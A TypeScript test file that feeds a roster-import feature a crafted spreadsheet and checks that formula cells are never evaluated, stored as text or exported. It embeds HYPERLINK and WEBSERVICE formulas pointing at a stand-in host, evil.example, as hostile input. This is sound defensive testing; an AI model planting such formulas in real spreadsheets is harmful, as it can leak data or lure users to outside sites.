/**
 * 公式单元格: a roster whose cells hold formulas (`<f>`: HYPERLINK, WEBSERVICE, 1+1) and text that
 * looks like one (`=HYPERLINK(…)` typed as text). The import must store what Excel last showed (the
 * cached value) or nothing, never the formula's text as if it were the value, and nothing is ever
 * evaluated; the 网格员花名册 we export from it must hold no formula either, so a stored `=…` cannot
 * run when the county opens our file.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { idCheckChar } from '../../shared/people/id-number';
import { makeTownship } from '../helpers/core';
import { hostileWorkbook, sheetXml } from '../helpers/hostile-xlsx';
import { testToday } from '../helpers/test-clock';
import { HEADER_ROW } from './hostile-files';

const id = (seq: string) => `14062119800517${seq}` + idCheckChar(`14062119800517${seq}`);
const text = (ref: string, s: string) => `<c r="${ref}" t="inlineStr"><is><t>${s}</t></is></c>`;
/** Text a clerk could type, passing the name rules (no digits, no `.`, short) so that it is stored. */
const LINK_TEXT = '=HYPERLINK("#A","点我")';

/** Row 2: formulas with cached values (and one without); row 3: text that starts with "=". */
const ROWS =
  `<row r="2"><c r="A2"><f>ROW()-1</f><v>1</v></c>${text('B2', '第一网格')}` +
  `<c r="C2" t="str"><f>HYPERLINK("http://evil.example/","张三")</f><v>张三</v></c>` +
  `<c r="D2" t="str"><f>"14062119800517"&amp;"${id('101').slice(14)}"</f><v>${id('101')}</v></c>` +
  `<c r="G2"><f>1+1</f></c>${text('H2', '专职')}${text('L2', '=1+1')}</row>` +
  `<row r="3">${text('B3', '第一网格')}${text('C3', LINK_TEXT.replaceAll('"', '&quot;'))}${text('D3', id('113'))}` +
  `${text('H3', '兼职')}<c r="L3" t="str"><f>WEBSERVICE("http://evil.example/")</f><v></v></c></row>`;

describe('公式单元格：花名册导入与导出', () => {
  it('stores cached values or nothing, never formula text, and exports no formula', async () => {
    const t = makeTownship();
    try {
      const v = t.ok<{ id: string }[]>('org.listVillages', {}, t.clerk)[0]!;
      t.ok(
        'org.createGrid',
        { villageId: v.id, type: 'village', name: '第一网格', households: 300, residents: 900 },
        t.clerk,
      );
      const file = (await hostileWorkbook(sheetXml(HEADER_ROW + ROWS))).toString('base64');
      const call = (method: string) => t.core.dispatch.async!({ method, input: { file }, session: t.clerk });

      const preview = await call('people.importPreview');
      expect(preview).toMatchObject({ ok: true, data: { ok: true } });
      expect(JSON.stringify(preview)).not.toMatch(/evil|WEBSERVICE/);
      const committed = await call('people.importCommit');
      expect(committed).toMatchObject({ ok: true, data: { created: 2 } });

      const rows = t.core.deps.conn.sqlite
        .prepare('SELECT name, phone_enc AS phone, remarks FROM persons ORDER BY name')
        .all() as { name: string; phone: string | null; remarks: string | null }[];
      // The cached value, not HYPERLINK(…); the formula without a value left the phone empty, not 2;
      // text that starts with "=" is kept as the text it is.
      expect(rows).toEqual([
        { name: LINK_TEXT, phone: null, remarks: null },
        { name: '张三', phone: null, remarks: '=1+1' },
      ]);

      const exported = await t.core.dispatch.async!({
        method: 'reports.export',
        input: { form: 'grid-roster', period: testToday().slice(0, 7) },
        session: t.clerk,
      });
      expect(exported.ok).toBe(true);
      const bytes = Buffer.from((exported as { data: { bytes: string } }).data.bytes, 'base64');
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(bytes as never);
      const cells: ExcelJS.Cell[] = [];
      wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
      expect(cells.filter((c) => c.formula || c.type === ExcelJS.ValueType.Formula).map((c) => c.address)).toEqual([]);
      expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining([LINK_TEXT, '张三']));
    } finally {
      t.core.close();
    }
  });
});
